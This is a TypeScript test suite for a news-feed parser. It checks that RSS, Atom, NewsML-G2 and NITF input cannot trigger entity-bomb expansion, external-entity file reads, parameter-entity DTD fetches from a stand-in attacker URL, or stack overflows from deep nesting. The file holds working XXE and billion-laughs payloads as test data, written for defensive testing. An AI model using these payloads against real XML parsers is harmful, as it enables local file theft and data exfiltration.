/**
 * Hostile XML on every XML path (feedsmith for RSS and Atom, fast-xml-parser
 * for NewsML-G2 and NITF): an entity bomb is not expanded and an external
 * entity does not read the file it names. Either the document is read with
 * the reference left as written, or it is refused with a FeedError; never is
 * the entity's content in the result.
 */
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, test } from 'node:test';
import { cpuMsSince } from '../../test/cpu-time.ts';
import { FeedError, parseFeed, type ParsedFeed } from './feed-parser.ts';

const fixture = (name: string) => readFile(new URL(`./testdata/${name}`, import.meta.url));

/** Processor time: far more than reading these small documents needs; an expanding bomb takes minutes or runs out of memory. */
const BOMB_TIME_LIMIT_MS = 2_000;

function parseOrError(body: string | Buffer): ParsedFeed | FeedError {
  try {
    return parseFeed(body, { sourceId: 's', url: 'https://hostile.example/feed' });
  } catch (error) {
    assert.ok(error instanceof FeedError, `expected a FeedError, got ${String(error)}`);
    return error;
  }
}

void describe('entity bombs are not expanded', () => {
  for (const name of ['billion-laughs-rss.xml', 'billion-laughs-nitf.xml']) {
    void test(name, async () => {
      const body = await fixture(name);
      const started = process.cpuUsage();
      const result = parseOrError(body);
      const spent = cpuMsSince(started);
      assert.ok(spent < BOMB_TIME_LIMIT_MS, `parsed in ${Math.round(spent)} ms of processor time`);
      assert.ok(!(result instanceof FeedError), `read, not refused: ${result instanceof FeedError ? result.message : ''}`);
      const [entry] = result.entries;
      assert.ok(entry);
      assert.equal(entry.title, 'Laughs &lol9;', 'the reference stays as written');
      assert.ok(JSON.stringify(result).length < 10_000);
      assert.ok(!JSON.stringify(result).includes('lollol'));
    });
  }
});

void describe('external entities are not read', () => {
  const SECRET = 'wiredesk-secret-7f3a9c';
  let dir = '';
  let secretUrl = '';
  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'wiredesk-xxe-'));
    const file = join(dir, 'secret.txt');
    await writeFile(file, SECRET);
    secretUrl = pathToFileURL(file).href;
  });
  after(() => rm(dir, { recursive: true, force: true }));

  const documents: Record<string, (url: string) => string> = {
    RSS: (url) =>
      `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "${url}">]>` +
      '<rss version="2.0"><channel><title>t</title><item><title>Leak &xxe;</title><guid>g1</guid></item></channel></rss>',
    Atom: (url) =>
      `<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY xxe SYSTEM "${url}">]>` +
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><id>f</id><entry><id>e1</id><title>Leak &xxe;</title></entry></feed>',
    'NewsML-G2': (url) =>
      `<?xml version="1.0"?><!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "${url}">]>` +
      '<newsItem guid="g1"><contentMeta><headline>Leak &xxe;</headline></contentMeta></newsItem>',
    NITF: (url) =>
      `<?xml version="1.0"?><!DOCTYPE nitf SYSTEM "${url}" [<!ENTITY xxe SYSTEM "${url}">]>` +
      '<nitf><head><docdata><doc-id id-string="g1"/></docdata></head><body><body.head><hedline><hl1>Leak &xxe;</hl1></hedline></body.head></body></nitf>',
  };

  for (const [format, document] of Object.entries(documents)) {
    void test(format, () => {
      const result = parseOrError(document(secretUrl));
      assert.ok(!JSON.stringify(result instanceof FeedError ? result.message : result).includes(SECRET), 'the file was not read');
      if (!(result instanceof FeedError)) assert.equal(result.entries[0]?.title, 'Leak &xxe;');
    });
  }

  void test('the wire formats read the document, leaving the reference as written', () => {
    for (const format of ['NewsML-G2', 'NITF']) {
      const result = parseOrError(documents[format]!(secretUrl));
      assert.ok(!(result instanceof FeedError), `${format} is read`);
    }
  });
});

void describe('parameter entities and document type declarations that cannot be read', () => {
  const ATTACKER = 'http://127.0.0.1:9/evil.dtd';
  const FEED = '<rss version="2.0"><channel><title>t</title><item><title>Leak &send;</title><guid>g1</guid></item></channel></rss>';
  const documents: Record<string, string> = {
    'a parameter entity fetching a DTD': `<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY % pe SYSTEM "${ATTACKER}">\n %pe;\n]>\n${FEED}`,
    'a parameter entity declaring another entity': `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % pe "<!ENTITY send 'x'>"> %pe;]>${FEED}`,
    'declarations after a declaration closed early': `<?xml version="1.0"?>\n<!DOCTYPE rss [<!ELEMENT rss ANY>]>\n <!ENTITY % pe SYSTEM "${ATTACKER}">\n${FEED}`,
    'a "]>" inside an entity value': `<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % a "]>">\n <!ENTITY % pe SYSTEM "${ATTACKER}">\n]>\n${FEED}`,
    'a NITF wire with a parameter entity': `<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY % pe SYSTEM "${ATTACKER}"> %pe;]><nitf><head/><body/></nitf>`,
  };
  for (const [name, document] of Object.entries(documents)) {
    void test(`${name} is refused, saying why`, () => {
      const result = parseOrError(document);
      assert.ok(result instanceof FeedError, 'refused');
      assert.match(result.message, /is not a valid feed: a document type declaration with parameter entities, or one that cannot be read, is refused/);
      assert.doesNotMatch(result.message, /neither XML nor|Invalid entity name/);
    });
  }
});

void describe('documents nested beyond reason', () => {
  void test('a NITF body nested thousands of levels deep is refused with a reason, not a stack overflow', () => {
    const depth = 5_000;
    const body = '<block>'.repeat(depth) + 'deep' + '</block>'.repeat(depth);
    const result = parseOrError(`<nitf><head/><body><body.content>${body}</body.content></body></nitf>`);
    assert.ok(result instanceof FeedError);
    assert.match(result.message, /is not a valid feed: elements nested deeper than \d+ levels$/);
  });

  void test('ninjs 100 levels deep is read', () => {
    let nested: unknown = { uri: 'urn:deep', headline: 'Deep' };
    for (let level = 0; level < 100; level += 1) nested = { uri: `urn:${level}`, headline: 'Outer', associations: { inner: nested } };
    const result = parseOrError(JSON.stringify(nested));
    assert.ok(!(result instanceof FeedError));
    assert.equal(result.entries[0]?.title, 'Outer');
  });
});
